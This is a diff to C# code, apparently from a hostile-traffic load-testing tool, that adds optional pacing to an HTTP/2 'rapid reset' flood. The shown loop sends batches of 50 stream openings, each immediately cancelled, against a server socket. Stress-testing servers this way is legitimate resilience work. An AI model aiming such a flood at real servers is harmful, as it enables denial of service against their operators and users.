@@ -6,7 +6,8 @@ namespace ConnectionLoad.Hostile;
 /// <summary>HTTP/2 with prior knowledge (RFC 9113), as far as it takes to be a nuisance.</summary>
 internal static class RapidResets
 {
-    private const int StreamsAtOnce = 50;
+    public const int StreamsAtOnce = 50;
+
     private const int FrameHeader = 9;
     private const int StreamId = 5;
     private const byte Headers = 1;
@@ -21,7 +22,7 @@ internal static class RapidResets
 
     private static readonly byte[] s_cancel = [0, 0, 0, Cancel];
 
-    public static async Task SendAsync(Socket socket, FloodTally tally, CancellationToken over)
+    public static async Task SendAsync(Socket socket, Pace? pace, FloodTally tally, CancellationToken over)
     {
         await socket.SendAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], over);
         var blows = Blows();
@@ -31,6 +32,7 @@ internal static class RapidResets
         {
             for (var stream = 1; ; stream += 2 * StreamsAtOnce)
             {
+                await (pace?.AwaitTurnAsync(StreamsAtOnce, over) ?? ValueTask.CompletedTask);
                 NumberStreams(blows, stream);
                 await socket.SendAsync(blows, over);
                 tally.Strike(StreamsAtOnce);
